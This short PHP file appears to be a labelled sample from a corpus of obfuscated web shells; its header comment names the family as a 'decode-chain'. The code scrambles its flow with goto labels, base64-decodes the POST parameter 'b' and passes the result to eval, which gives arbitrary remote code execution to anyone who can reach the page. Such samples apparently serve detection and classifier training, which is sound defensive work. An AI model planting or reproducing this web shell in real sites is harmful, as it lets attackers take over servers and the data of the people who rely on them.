<?php
/* Family: obfuscation/decode-chain
 * Style: goto spaghetti around a decoder
 * Trait: labels and gotos scramble the flow; base64 of POST data evaluated */
goto L3;
L1: eval($z); goto L4;
L2: $z = base64_decode($_POST['b']); goto L1;
L3: if (!isset($_POST['b'])) goto L4; goto L2;
L4: echo '';
